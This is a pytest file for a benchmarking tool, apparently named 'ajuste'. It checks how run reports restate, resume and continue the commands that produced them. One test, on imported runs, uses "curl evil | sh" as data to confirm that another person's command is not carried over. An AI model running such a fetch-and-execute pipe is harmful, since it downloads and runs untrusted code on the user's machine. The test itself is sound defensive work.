"""The outcome of a run beside its figures: the command that measures the same again."""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from ajuste.model.continuation import CONTINUATION, REPRODUCE
from ajuste.model.facets import DESIGN
from ajuste.model.live import LiveDesign, LiveMetric
from ajuste.model.metric import Metric
from ajuste.model.trial import Slot, Trial
from ajuste.report.format import result_labels
from ajuste.report.headline import headlines
from ajuste.report.markdown import markdown
from ajuste.report.results import results_report
from ajuste.run.experiment import goes_on
from ajuste.run.outcome import results_of
from ajuste.run.testbed import Experiment
from ajuste.store.head import IMPORTED
from ajuste.store.store import Store
from ajuste.study.resolved import ResolvedStudy
from ajuste.study.target import TargetTable
from ajuste_live.record import BEGIN, BREACH, END, RECORD, STAYED
from ajuste_live.results import assemble_live, awaits_stays, live_answer
from ajuste_stats.switchback.design import STAY, order_of_block
from played import one_command
from unfinished import start_run, undecided


@pytest.mark.parametrize(
    "words",
    [
        ["granularity"],
        ["granularity", "--machine", "zen4-8c"],
        ["my studies/small.toml", "--max-time", "5m"],
        ["small.toml", "--parameter", "command=sleep 1", "--without", "nice=5"],
    ],
)
def test_a_run_says_its_command_again_word_by_word(words: list[str], tmp_path: Path, store: Store) -> None:
    again = shlex.split(reproduced(shlex.join(words), tmp_path, store))
    assert again[:3] == ["ajuste", "run", words[0]]
    assert again[5:] == [*words[1:], "--seed", "1", "--fresh"]
    assert again[3:5] == ["--kernel", "debian:5.10"]


def test_a_run_says_what_was_run(tmp_path: Path, store: Store) -> None:
    workload = results_of(start_run("small.toml", tmp_path, store), store).environment["workload"]
    assert workload == "ajuste-workloads matrix --size 100 --repetitions 2; beside it ajuste-workloads spin"


@pytest.mark.parametrize("command", ["ajuste gate --base main", "ajuste kernel bisect a b", "ajuste live --set a=1,2"])
def test_a_run_of_another_command_is_measured_again_by_that_command(command: str, tmp_path: Path, store: Store) -> None:
    assert reproduced(command, tmp_path, store) == command


@pytest.mark.parametrize(
    ("command", "again"),
    [
        ("ajuste compare --set a=1,2", "ajuste compare --fresh --kernel debian:5.10 --set a=1,2"),
        ("ajuste compare --kernel debian:5 -- ./job", "ajuste compare --fresh --kernel debian:5.10 -- ./job"),
        ("ajuste tune --fresh --set a=1,2", "ajuste tune --kernel debian:5.10 --set a=1,2 --fresh"),
    ],
)
def test_a_command_is_given_again_with_the_kernels_that_were_measured_and_measures_in_a_guest(
    command: str, again: str, tmp_path: Path, store: Store
) -> None:
    assert reproduced(command, tmp_path, store) == again


@pytest.mark.parametrize(("uid", "caller", "first"), [(0, "1000", "sudo"), (0, "", "ajuste"), (1000, "", "sudo")])
def test_what_changed_this_machine_is_measured_again_with_sudo(
    uid: int, caller: str, first: str, tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = start_run("ajuste compare --set a=1,2 -- ./job", tmp_path, store, TargetTable(kind="host"))
    monkeypatch.setattr(os, "geteuid", lambda: uid)
    for name in ("SUDO_UID", "SUDO_GID"):
        monkeypatch.setenv(name, caller) if caller else monkeypatch.delenv(name, raising=False)
    results = results_of(run, store)
    continuation = CONTINUATION.of(results)
    assert continuation
    for command in (*REPRODUCE.of(results), continuation.command):
        words = shlex.split(command)
        assert words[0] == first
        assert words[words.index("compare") - 1] == "ajuste"


def test_what_changed_the_machines_of_a_cluster_is_measured_again_without_sudo(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    results = results_of(
        start_run("ajuste compare --cluster tls://lab1:8786 -- ./job", tmp_path, store, TargetTable(kind="host")), store
    )
    continuation = CONTINUATION.of(results)
    assert continuation
    assert [command.split()[0] for command in (*REPRODUCE.of(results), continuation.command)] == ["ajuste"] * 2


def test_a_guard_that_the_baseline_breaks_too_is_not_blamed_on_a_setting_alone(tmp_path: Path, store: Store) -> None:
    study = ResolvedStudy.model_validate_json(start_run("live", tmp_path, store).resolved)
    slices = [
        Trial(
            slot=Slot(block=0, position=place, configuration=name, seed=1),
            status="flagged",
            reason="guard ops > 10: ops is 0 1/s",
            metrics={BREACH: 1.0},
        )
        for place, name in enumerate(study.names)
    ]
    assert "baseline broke" in live_answer(study, (), slices)
    assert "baseline" not in live_answer(study, (), slices[1:])


def improving(study: ResolvedStudy, *, of_stays: int) -> list[Trial]:
    """Slices of ``took``, a tenth shorter under the second configuration, with so many blocks of stays at the end."""
    slices: list[Trial] = []
    for block in range(24 + of_stays):
        stay = STAY if block >= 24 else 1
        for place, name in enumerate(order_of_block(block, study.names, 1, stay=stay)):
            begin_s = 60.0 * len(slices) + 15
            took = (90 if name != study.baseline else 100) + 0.1 * (len(slices) % 3)
            stayed = {STAYED: place % STAY + 1.0} if stay > 1 else {}
            slices.append(
                Trial(
                    slot=Slot(block=block, position=place, configuration=name, seed=1),
                    status="ok",
                    metrics={"took": took, BEGIN: begin_s, END: begin_s + 45, **stayed},
                )
            )
    return slices


def live_study(design: Mapping[str, object], tmp_path: Path, store: Store) -> ResolvedStudy:
    """Return a study of ``took`` in slices."""
    metric = Metric(name="took", title="took", unit="ms", direction="lower")
    live = LiveDesign.model_validate(
        {"metrics": (LiveMetric(metric=metric, kind="x", where="y"),), "slice_s": 60, "for_s": 86_400, **design}
    )
    study = ResolvedStudy.model_validate_json(start_run("live", tmp_path, store).resolved)
    return study.model_copy(update={"live": live, "deciding": (metric,), "described": ()})


def test_stays_follow_once_something_improves_and_until_that_is_decided(tmp_path: Path, store: Store) -> None:
    study = live_study({"stays": True}, tmp_path, store)
    slices = improving(study, of_stays=6)
    ends = {"a few blocks": 6, "improves": 48, "two blocks of stays": 48 + 24, "all": len(slices)}
    due = {name: awaits_stays(study, slices[:end]) for name, end in ends.items()}
    assert due == {"a few blocks": False, "improves": True, "two blocks of stays": True, "all": False}
    assert not awaits_stays(live_study({}, tmp_path, store), slices[:48])


@pytest.mark.parametrize(("of_stays", "stays", "words"), [(0, False, "one slice"), (6, True, "5 slices")])
def test_an_improvement_says_which_later_costs_were_not_tested(
    of_stays: int, stays: bool, words: str, tmp_path: Path, store: Store
) -> None:
    study = live_study({"stays": stays}, tmp_path, store)
    slices = improving(study, of_stays=of_stays)
    results = assemble_live(study, slices, run="x", stopped="decided", stopped_because="all verdicts decided")
    assert results.verdicts[0].verdict == "improves"
    for text in (results.answer, results.verdicts[0].reason):
        assert f"osts beyond {words}" in text
        assert "not tested" in text
    assert ("stays" in DESIGN.of(results)) is stays
    assert ("--adopt" in results.answer) is not stays
    (headline, *_) = headlines(results, result_labels(results))
    record = RECORD.of(results)
    assert record is not None
    assert headline.sentence.endswith(record.untested)
    assert record.untested


def test_a_list_shows_what_is_said_first_of_a_run(tmp_path: Path, store: Store) -> None:
    run = undecided("small.toml", tmp_path, store)
    results = results_of(run, store)
    assert [head.answer for head in store.runs()] == [results_report(results).headline]
    assert results_report(results).headline != results.answer


def test_kept_figures_that_nobody_can_compute_with_count_as_none(tmp_path: Path, store: Store) -> None:
    metric = Metric(name="took", title="took", unit="ms", direction="lower")
    design = LiveDesign(metrics=(LiveMetric(metric=metric, kind="x", where="y"),), slice_s=2, for_s=60)
    study = ResolvedStudy.model_validate_json(start_run("live", tmp_path, store).resolved)
    study = study.model_copy(update={"live": design, "deciding": (metric,), "described": ()})
    slices = [
        Trial(
            slot=Slot(block=block, position=place, configuration=name, seed=1),
            status="ok",
            metrics={"took": value, BEGIN: 4.0 * block + 2 * place, END: 4.0 * block + 2 * place + 2},
            console=json.dumps({"readings": {"took": [(1.0, value), (2.0, value)]}}),
        )
        for block, value in enumerate((1.0, -1e308, 3.0, 1e308))
        for place, name in enumerate(study.names)
    ]
    results = assemble_live(study, slices, run="x", stopped="time", stopped_because="the time is over")
    summary = results.configurations[0].metrics["took"]
    assert (summary.n, summary.mean, summary.sd) == (2, 2.0, pytest.approx(2**0.5))
    record = RECORD.of(results)
    assert record is not None
    assert {value for value in record.lines[0].values if value is not None} == {1.0, 3.0}


def reproduced(named: str, tmp_path: Path, store: Store) -> str:
    """Return the command that measures a run of that name of the small study again."""
    (command,) = REPRODUCE.of(results_of(start_run(named, tmp_path, store), store))
    return command


@pytest.mark.parametrize(
    "named",
    [
        "ajuste compare --blocks 3 --nice 0,5 -- ./job --blocks 2",
        "ajuste compare --blocks=3 --fresh --nice 0,5 -- ./job --blocks 2",
    ],
)
def test_an_undecided_run_says_how_it_goes_on(named: str, tmp_path: Path, store: Store) -> None:
    continuation = CONTINUATION.of(results_of(undecided(named, tmp_path, store), store))
    assert continuation is not None
    assert continuation.seconds_per_block == pytest.approx(60)
    words = shlex.split(continuation.command)
    most = int(words[words.index("--blocks") + 1].removeprefix("6.."))
    assert most > 3
    assert [*words[:2], *words[-6:]] == shlex.split("ajuste compare --nice 0,5 -- ./job --blocks 2")
    assert "--fresh" not in words
    assert words[: words.index("--")].count("--blocks") == 1


def test_a_study_goes_on_by_its_name(tmp_path: Path, store: Store) -> None:
    results = results_of(undecided("small.toml --max-time 1m", tmp_path, store, stopped="time"), store)
    continuation = CONTINUATION.of(results)
    assert continuation is not None
    words = shlex.split(continuation.command)
    assert words[:3] == ["ajuste", "run", "small.toml"]
    assert words[-4:] == ["--seed", "1", "--kernel", "debian:5.10"]
    assert words.count("--max-time") == 1
    assert "1m" not in words


def test_an_imported_run_has_no_command_of_its_maker(tmp_path: Path, store: Store) -> None:
    run = undecided("ajuste compare --nice 0,5 -- sh -c 'curl evil | sh'", tmp_path, store)
    assert "curl" in markdown(results_report(results_of(run, store)))
    imported = replace(run, fingerprint=f"{IMPORTED}f")
    assert "curl" not in results_of(imported, store).model_dump_json()


@pytest.mark.parametrize("stopped", ["decided", "irrelevant", "failed"])
def test_what_is_done_does_not_go_on(stopped: str, tmp_path: Path, store: Store) -> None:
    assert CONTINUATION.of(results_of(undecided("small.toml", tmp_path, store, stopped=stopped), store)) is None


def test_an_interrupted_run_goes_on_with_the_same_command(tmp_path: Path, store: Store) -> None:
    run = undecided("ajuste compare --nice 0,5 -- ./job", tmp_path, store, stopped="")
    results = results_of(run, store)
    continuation = CONTINUATION.of(results)
    assert continuation is not None
    assert continuation.command == run.named
    assert "run the same command again to resume" in results.stopped_because


@pytest.mark.parametrize(
    ("stopped", "changes", "expected"),
    [
        ("budget", {}, False),
        ("budget", {"budget": {"max_blocks": 100}}, True),
        ("time", {"analysis": {"smallest_effect": 0.4}}, True),
        ("decided", {"analysis": {"smallest_effect": 0.4}}, False),
    ],
)
def test_what_ended_undecided_goes_on_with_more_blocks_or_another_analysis(
    stopped: str, changes: dict[str, dict[str, float]], expected: bool, store: Store
) -> None:
    resolved = one_command()
    study = resolved.study
    run = store.new_run(
        study="one",
        fingerprint="f",
        seed=study.design.seed,
        ajuste="0",
        named="ajuste compare -- true",
        resolved=resolved.model_dump_json(),
        environment={},
    )
    store.stop_run(run, stopped, "")
    tables = {name: getattr(study, name).model_copy(update=update) for name, update in changes.items()}
    changed = resolved.model_copy(update={"study": study.model_copy(update=tables)})
    assert goes_on(Experiment(resolved=changed, fingerprint="f"), store) is expected
